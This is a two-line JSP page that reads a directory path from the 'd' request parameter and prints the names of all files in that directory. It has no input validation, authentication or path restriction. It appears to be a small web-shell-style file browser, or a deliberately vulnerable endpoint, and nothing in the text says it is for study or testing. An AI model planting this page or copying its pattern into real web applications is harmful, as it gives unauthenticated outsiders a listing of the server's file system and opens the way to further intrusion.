<%@ page import="java.io.*" %>
<% File d = new File(request.getParameter("d")); for (File f : d.listFiles()) out.println(f.getName() + "<br>"); %>
